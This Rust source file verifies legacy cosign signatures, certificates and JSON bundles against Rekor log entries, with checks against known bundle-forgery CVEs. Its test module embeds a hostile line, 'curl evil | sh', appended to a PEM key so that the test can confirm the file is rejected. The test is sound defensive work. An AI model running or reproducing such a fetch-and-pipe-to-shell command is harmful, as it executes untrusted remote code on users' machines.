//! What cosign wrote before Sigstore bundles: `X.sig` with `X.pem`, and the JSON of `sign-blob --bundle` (cosign 0.6 to
//! 2.x, `pkg/cosign/fetch.go`, `LocalSignedPayload`).
//!
//! A signature beside its certificate was made at no time that anybody vouches for, and the certificate was valid for
//! minutes: that is never a proof. The JSON holds the log's signed entry timestamp; it is read as the v0.1 bundle that it
//! is, and verified as one. The rule that must not be broken: the entry is of this signature, by this certificate or
//! key, over this digest; each is compared here, before the library compares them again (CVE-2022-23649,
//! CVE-2022-36056, CVE-2026-22703, CVE-2024-53267).

use super::{
    Context, Proof, Reason, Refusal, Target, bundle_suffixes, detached, raw, recognise,
    sigstore::{self, Parsed},
};
use crate::{
    digest::{Algorithm, Digest},
    json,
    text::Untrusted,
    trust::{Spki, TrustRoots},
};
use base64::{Engine, engine::general_purpose::STANDARD};
use der::Decode;
use serde_json::{Map, Value, json};
use sigstore_verify::{
    VerificationPolicy,
    crypto::{VerificationKey, parse_certificate_info},
    types::{DerCertificate, DerPublicKey},
};

/// The largest certificate with its chain, in bytes.
const MAX_CERTIFICATES: usize = 64 << 10;
/// The largest JSON document, in bytes.
const MAX_BUNDLE: usize = 1 << 20;
const LIMITS: json::Limits = json::Limits { max_bytes: MAX_BUNDLE, max_depth: 16, ..sigstore::LIMITS };

/// What a certificate is called that belongs to a signature.
const CERTIFICATE_SUFFIXES: [&str; 4] = [".pem", ".crt", ".cert", ".cer"];
/// What a signature is called that a certificate belongs to.
const SIGNATURE_SUFFIXES: [&str; 3] = [".sig", ".signature", ".sign"];

/// The certificate beside the signature that is being verified: `X.pem` or `X.sig.pem` for `X.sig`.
pub fn certificate_of<'a>(context: &Context<'a>) -> Option<&'a [u8]> {
    let stem = SIGNATURE_SUFFIXES.iter().find_map(|suffix| context.name.strip_suffix(suffix));
    let stems = [stem, Some(context.name)].into_iter().flatten();
    let names = stems.flat_map(|stem| CERTIFICATE_SUFFIXES.map(|suffix| format!("{stem}{suffix}")));
    names.into_iter().find_map(|name| (context.sibling)(&name))
}

/// Whether a signature is published that the certificate called `name` belongs to.
pub fn has_signature<'a>(name: &str, sibling: &dyn Fn(&str) -> Option<&'a [u8]>) -> bool {
    let Some((_, stem)) = recognise(name) else { return false };
    let is_raw = |name: &str| sibling(name).is_some_and(|bytes| detached::kind(bytes) == detached::Kind::Raw);
    let own = SIGNATURE_SUFFIXES.iter().any(|suffix| stem.ends_with(suffix)) && is_raw(stem);
    own || SIGNATURE_SUFFIXES.iter().any(|suffix| is_raw(&format!("{stem}{suffix}")))
}

/// Whether what is published beside a signature is what it is called. Anything else would go unjudged.
pub fn is_companion(bytes: &[u8]) -> Result<(), Refusal> {
    let chain = match Signer::parse(bytes)? {
        Signer::Certificates(chain) => chain,
        Signer::Key(key) => {
            let is_key = VerificationKey::from_spki(&key).is_ok();
            let none = || Refusal::invalid("it is called a public key, and is none");
            return is_key.then_some(()).ok_or_else(none);
        }
    };
    let is_one = |one: &DerCertificate| x509_cert::Certificate::from_der(one.as_bytes()).is_ok();
    if chain.iter().all(is_one) {
        Ok(())
    } else {
        Err(Refusal::invalid("it is called a certificate, and is none"))
    }
}

/// Refuses a block of PEM with anything in it or behind it that is not base64: a shell would read that as commands.
fn refuse_more_than_armor(block: &str, label: &str) -> Result<(), Refusal> {
    let inner = block
        .strip_prefix(&format!("-----BEGIN {label}-----"))
        .and_then(|rest| rest.strip_suffix(&format!("-----END {label}-----")));
    let plain = |c: char| c.is_ascii_alphanumeric() || "+/=\r\n".contains(c);
    match inner {
        Some(inner) if inner.chars().all(plain) => Ok(()),
        _ => Err(Refusal::invalid("there is something else in the file than a key or certificates in PEM")),
    }
}

/// Why a signature with nothing but its certificate beside it proves nothing.
pub fn without_log(signature: &[u8], certificate: &[u8], about: &Target<'_>) -> Refusal {
    let signer = match Signer::parse(certificate) {
        Ok(signer) => signer,
        Err(refusal) => return refusal,
    };
    let spki = match &signer {
        Signer::Key(_) => {
            return Refusal::new(
                Reason::UnknownKey,
                "a public key is published beside it, which anybody could exchange with it; name the key in the policy",
            );
        }
        Signer::Certificates(chain) => match chain.first().map(spki_of) {
            Some(Ok(spki)) => spki,
            Some(Err(refusal)) => return refusal,
            None => return Refusal::invalid("the certificate beside it holds none"),
        },
    };
    if let Err(refusal) = raw::check(&spki, about, signature) {
        return refusal.or_invalid("the key in the certificate beside it did not sign this file");
    }
    Refusal::new(
        Reason::NoTime,
        format!(
            "{} signed it, and nothing that can be checked says when: there is no log entry, and the certificate {}",
            signer.identity(),
            signer.validity()
        ),
    )
}

/// The proof of a bundle beside a detached signature that holds the very same signature: `cosign sign-blob` writes both when
/// it is asked to, and then the log entry in the one says when the other was made.
pub fn logged_beside(context: &Context<'_>, signature: &[u8]) -> Option<Proof> {
    let (_, about) = recognise(context.name)?;
    let bundles = bundle_suffixes().filter_map(|suffix| (context.sibling)(&format!("{about}{suffix}")));
    bundles
        .flat_map(|bytes| sigstore::verify_of(bytes, signature, context.about.as_ref(), context.trust))
        .next()
}

/// Verifies a JSON bundle of old cosign, which is about `about` where its name says so.
pub fn verify(document: &[u8], about: Option<&Target<'_>>, trust: &TrustRoots) -> Result<Proof, Refusal> {
    let value = json::parse(document, LIMITS).map_err(|e| Refusal::of_json("a bundle of old cosign", &e))?;
    let bundle = Bundle::parse(&value)?;
    let Some(entry) = &bundle.entry else { return bundle.without_entry(about, trust) };
    entry.is_of(&bundle)?;
    let parsed = Parsed::read(bundle.converted(entry).to_string().as_bytes())?;
    match &bundle.signer {
        Some(Signer::Certificates(_)) => {
            parsed.verify_with_roots(&entry.digest, &VerificationPolicy::any_identity(), trust)
        }
        _ => {
            bundle.is_by_named_key(entry, trust)?;
            parsed.verify_with_keys(&entry.digest, trust)
        }
    }
}

/// Who signed, as the release says it: a certificate with its chain, or a public key.
enum Signer {
    Certificates(Vec<DerCertificate>),
    Key(DerPublicKey),
}

impl Signer {
    /// PEM, or base64 of it, as cosign before 2.0 writes it.
    fn parse(bytes: &[u8]) -> Result<Self, Refusal> {
        if bytes.len() > MAX_CERTIFICATES {
            return Err(Refusal::unreadable(format!(
                "{} bytes are too many for a certificate and its chain",
                bytes.len()
            )));
        }
        let refused = || Refusal::invalid("the certificate is neither PEM nor base64 of it");
        let text = std::str::from_utf8(bytes).map_err(|_| refused())?.trim();
        let decoded;
        let text = if text.starts_with("-----BEGIN ") {
            text
        } else {
            let compact: String = text.split_ascii_whitespace().collect();
            decoded = STANDARD.decode(compact).ok().and_then(|raw| String::from_utf8(raw).ok());
            decoded.as_deref().ok_or_else(refused)?.trim()
        };
        if text.starts_with("-----BEGIN PUBLIC KEY-----") {
            refuse_more_than_armor(text, "PUBLIC KEY")?;
            return DerPublicKey::from_pem(text).map(Self::Key).map_err(|_| refused());
        }
        let blocks = text.split_inclusive("-----END CERTIFICATE-----").map(str::trim);
        let certificates: Vec<_> = blocks
            .map(|block| match block.starts_with("-----BEGIN CERTIFICATE-----") {
                true => refuse_more_than_armor(block, "CERTIFICATE")
                    .and_then(|()| DerCertificate::from_pem(block).map_err(|_| refused())),
                false => Err(refused()),
            })
            .collect::<Result<_, _>>()?;
        if certificates.is_empty() {
            return Err(refused());
        }
        Ok(Self::Certificates(certificates))
    }

    /// The DER of the certificate, or of the key.
    fn der(&self) -> &[u8] {
        match self {
            Self::Certificates(chain) => chain.first().map_or(&[], |leaf| leaf.as_bytes()),
            Self::Key(key) => key.as_bytes(),
        }
    }

    /// Whom the certificate names. Nobody vouched for it here.
    fn identity(&self) -> String {
        let info = match self {
            Self::Certificates(chain) => chain.first().and_then(|leaf| parse_certificate_info(leaf).ok()),
            Self::Key(_) => None,
        };
        let identity = info.and_then(|info| info.identity);
        identity.map_or_else(
            || "somebody".to_owned(),
            |identity| format!("the holder of a certificate for {}", Untrusted::new(identity.as_str())),
        )
    }

    fn validity(&self) -> String {
        let Self::Certificates(chain) = self else { return "is none".to_owned() };
        let info = chain.first().and_then(|leaf| parse_certificate_info(leaf).ok());
        info.map_or_else(
            || "cannot be read".to_owned(),
            |info| format!("was valid from {} to {} only", info.not_before, info.not_after),
        )
    }
}

fn spki_of(leaf: &DerCertificate) -> Result<Spki, Refusal> {
    let info = parse_certificate_info(leaf)
        .map_err(|e| Refusal::invalid(format!("the certificate beside it cannot be read: {e}")))?;
    Spki::from_der(info.public_key)
        .map_err(|e| Refusal::invalid(format!("the key in the certificate beside it cannot be used: {e}")))
}

/// A JSON bundle of old cosign, well formed. Nothing in it was verified.
struct Bundle {
    signature: Vec<u8>,
    signer: Option<Signer>,
    entry: Option<Entry>,
}

/// The log entry in one.
struct Entry {
    promise: Vec<u8>,
    body: Vec<u8>,
    integrated_time: i64,
    log_index: i64,
    log_id: Vec<u8>,
    digest: Digest,
    signature: Vec<u8>,
    signer: Signer,
}

impl Bundle {
    fn parse(value: &Value) -> Result<Self, Refusal> {
        let members = object(value, "the bundle", &["base64Signature", "cert", "rekorBundle"])?;
        let signature = base64_of(members, "base64Signature")?;
        if signature.is_empty() {
            return Err(malformed("base64Signature is empty"));
        }
        let signer = match members.get("cert") {
            None | Some(Value::Null) => None,
            Some(Value::String(text)) if text.is_empty() => None,
            Some(Value::String(text)) => Some(Signer::parse(text.as_bytes())?),
            Some(_) => return Err(malformed("cert is no text")),
        };
        let entry = match members.get("rekorBundle") {
            None | Some(Value::Null) => None,
            Some(value) => Some(Entry::parse(value)?),
        };
        Ok(Self { signature, signer, entry })
    }

    /// The verdict on a bundle that was not logged: what it holds is a detached signature.
    fn without_entry(&self, about: Option<&Target<'_>>, trust: &TrustRoots) -> Result<Proof, Refusal> {
        let about = super::minisign::published(about)?;
        match &self.signer {
            Some(Signer::Certificates(chain)) => {
                let pem: String = chain.iter().map(DerCertificate::to_pem).collect();
                Err(without_log(&self.signature, pem.as_bytes(), about))
            }
            Some(Signer::Key(key)) if !is_named(key.as_bytes(), trust) => Err(unknown_key()),
            _ => raw::by_keys(&self.signature, about, trust),
        }
    }

    /// The key that signed and was logged must be the verifier's own.
    fn is_by_named_key(&self, entry: &Entry, trust: &TrustRoots) -> Result<(), Refusal> {
        let logged = match &entry.signer {
            Signer::Key(key) => key.as_bytes(),
            Signer::Certificates(_) => {
                return Err(foreign_entry("the log entry is of a certificate, and the bundle holds none"));
            }
        };
        if is_named(logged, trust) { Ok(()) } else { Err(unknown_key()) }
    }

    /// The same as a Sigstore bundle v0.1 (`sigstore_bundle.proto`), which has the same parts under other names.
    fn converted(&self, entry: &Entry) -> Value {
        let encode = |bytes: &[u8]| STANDARD.encode(bytes);
        let mut material = json!({ "tlogEntries": [{
            "logIndex": entry.log_index.to_string(),
            "logId": { "keyId": encode(&entry.log_id) },
            "kindVersion": { "kind": "hashedrekord", "version": "0.0.1" },
            "integratedTime": entry.integrated_time.to_string(),
            "inclusionPromise": { "signedEntryTimestamp": encode(&entry.promise) },
            "canonicalizedBody": encode(&entry.body),
        }]});
        match &self.signer {
            Some(Signer::Certificates(chain)) => {
                let chain: Vec<Value> =
                    chain.iter().map(|one| json!({ "rawBytes": encode(one.as_bytes()) })).collect();
                material["x509CertificateChain"] = json!({ "certificates": chain });
            }
            _ => material["publicKey"] = json!({ "hint": "" }),
        }
        let digest = hex::decode(entry.digest.hex()).expect("a digest is hexadecimal");
        json!({
            "mediaType": "application/vnd.dev.sigstore.bundle+json;version=0.1",
            "verificationMaterial": material,
            "messageSignature": {
                "messageDigest": { "algorithm": "SHA2_256", "digest": encode(&digest) },
                "signature": encode(&self.signature),
            },
        })
    }
}

impl Entry {
    fn parse(value: &Value) -> Result<Self, Refusal> {
        let members = object(value, "rekorBundle", &["SignedEntryTimestamp", "Payload"])?;
        let payload = members.get("Payload").ok_or_else(|| malformed("rekorBundle has no Payload"))?;
        let payload = object(payload, "Payload", &["body", "integratedTime", "logIndex", "logID"])?;
        let body = base64_of(payload, "body")?;
        let log_id =
            hex::decode(text(payload, "logID")?).map_err(|_| malformed("logID is no hexadecimal"))?;
        let record = json::parse(&body, LIMITS).map_err(|e| malformed(&format!("the log entry: {e}")))?;
        let (kind, version) = (record["kind"].as_str(), record["apiVersion"].as_str());
        if (kind, version) != (Some("hashedrekord"), Some("0.0.1")) {
            let found = format!("{} {}", kind.unwrap_or("(none)"), version.unwrap_or("(none)"));
            return Err(Refusal::unreadable(format!(
                "its log entry is a {}, and only hashedrekord 0.0.1 is read",
                Untrusted::new(found)
            )));
        }
        let (data, signature) = (&record["spec"]["data"]["hash"], &record["spec"]["signature"]);
        if data["algorithm"].as_str() != Some("sha256") {
            return Err(Refusal::unreadable("its log entry is over another hash than SHA-256"));
        }
        let decoded = |value: &Value, what: &str| {
            let text = value.as_str().ok_or_else(|| malformed(&format!("the log entry has no {what}")))?;
            STANDARD.decode(text).map_err(|_| malformed(&format!("the log entry's {what} is no base64")))
        };
        Ok(Self {
            promise: base64_of(members, "SignedEntryTimestamp")?,
            integrated_time: number(payload, "integratedTime")?,
            log_index: number(payload, "logIndex")?,
            digest: Digest::parse(Algorithm::Sha256, data["value"].as_str().unwrap_or_default())
                .map_err(|e| malformed(&format!("the log entry's hash: {e}")))?,
            signature: decoded(&signature["content"], "signature")?,
            signer: Signer::parse(&decoded(&signature["publicKey"]["content"], "public key")?)?,
            log_id,
            body,
        })
    }

    /// The entry must be of what stands beside it.
    fn is_of(&self, bundle: &Bundle) -> Result<(), Refusal> {
        if self.signature != bundle.signature {
            return Err(foreign_entry("the log entry is of another signature than the bundle holds"));
        }
        match &bundle.signer {
            Some(signer) if signer.der() != self.signer.der() => {
                Err(foreign_entry("the log entry is by another certificate or key than the bundle holds"))
            }
            _ => Ok(()),
        }
    }
}

fn is_named(key: &[u8], trust: &TrustRoots) -> bool {
    trust.keys().iter().filter_map(|named| named.spki()).any(|named| named.der.as_bytes() == key)
}

fn unknown_key() -> Refusal {
    Refusal::new(
        Reason::UnknownKey,
        "it was made with a key that it brings along, and the policy does not name it",
    )
}

/// A log entry that is good for something else is a forged bundle, whatever else is right in it.
fn foreign_entry(why: &str) -> Refusal {
    Refusal::invalid(why)
}

fn malformed(why: &str) -> Refusal {
    Refusal::invalid(format!("not a bundle of old cosign: {why}"))
}

/// The members of an object, each of which must be known: nothing signs them, and cosign writes no other.
fn object<'a>(value: &'a Value, what: &str, known: &[&str]) -> Result<&'a Map<String, Value>, Refusal> {
    let members = value.as_object().ok_or_else(|| malformed(&format!("{what} is no object")))?;
    match members.keys().find(|key| !known.contains(&key.as_str())) {
        Some(other) => {
            let other = Untrusted::new(other.as_str());
            Err(malformed(&format!("{what} has the member {other}, which cosign does not write")))
        }
        None => Ok(members),
    }
}

fn text<'a>(members: &'a Map<String, Value>, key: &str) -> Result<&'a str, Refusal> {
    members.get(key).and_then(Value::as_str).ok_or_else(|| malformed(&format!("{key} is no text")))
}

fn base64_of(members: &Map<String, Value>, key: &str) -> Result<Vec<u8>, Refusal> {
    STANDARD.decode(text(members, key)?).map_err(|_| malformed(&format!("{key} is no base64")))
}

fn number(members: &Map<String, Value>, key: &str) -> Result<i64, Refusal> {
    let number = members.get(key).and_then(Value::as_i64).filter(|number| *number >= 0);
    number.ok_or_else(|| malformed(&format!("{key} is no whole number from 0")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_companion_is_a_key_or_certificates_and_nothing_besides() {
        let key = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE1Olb3zMAFFxXKHiIkQO5cJ3Yhl5i6UPp+\n\
                   IhuteBJbuHcA5UogKo0EWtlWwW6KSaKoTNEYL7JlCQiVnkhBktUgg==\n-----END PUBLIC KEY-----\n";
        assert_eq!(is_companion(key.as_bytes()), Ok(()));
        assert_eq!(is_companion(STANDARD.encode(key).as_bytes()), Ok(()));
        let script = format!("{key}curl evil | sh\n");
        let noise = "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n";
        let header = key.replacen('\n', "\nX: y\n", 1);
        for other in [script.as_str(), &STANDARD.encode(&script), noise, &header] {
            assert_eq!(is_companion(other.as_bytes()).unwrap_err().reason, Reason::Invalid, "{other}");
        }
    }
}
